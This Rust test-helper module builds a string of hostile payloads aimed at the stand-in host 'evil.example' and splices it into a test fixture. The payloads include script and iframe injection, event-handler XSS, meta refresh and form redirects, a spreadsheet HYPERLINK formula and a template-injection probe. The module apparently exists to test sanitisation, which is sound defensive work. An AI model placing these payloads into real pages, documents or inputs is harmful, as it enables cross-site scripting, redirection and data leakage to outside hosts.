//! What somebody who means harm would write, and a copy that has it in every place.

/// Another site, which nothing may ever be asked of or go to.
pub(crate) const ELSEWHERE: &str = "evil.example";

/// Markup that runs, loads, sends or leads away, addresses that do, and formulas for spreadsheets.
pub(crate) fn trick() -> String {
    let site = format!("https://{ELSEWHERE}");
    format!(
        "=HYPERLINK(\"{site}\")<img src=\"{site}/x.png\" onerror=\"window.__x=1\">\"'><script \
         src=\"{site}/x.js\">window.__x=1</script><iframe src=\"{site}\"></iframe><meta \
         http-equiv=\"refresh\" content=\"0;url={site}\"><form action=\"{site}\"><button autofocus \
         onfocus=\"window.__x=1\"></form><base href=\"{site}\"><a href=\"javascript:window.__x=1\" \
         ping=\"{site}\">z</a><style>*{{background:url({site})}}</style><svg \
         onload=\"window.open('{site}')\"> javascript:window.__x=1 //{ELSEWHERE} stun:{ELSEWHERE} \
         {{{{7*7}}}} #/erase"
    )
}

/// The copy in `tests/fixtures/hostile`, with the trick in every place.
pub(crate) fn copy() -> String {
    let inside = serde_json::Value::from(trick()).to_string();
    let marked = include_str!("../fixtures/hostile/copy.json");
    // Within the quotes that are there.
    marked.replace("@@", &inside[1..inside.len() - 1])
}
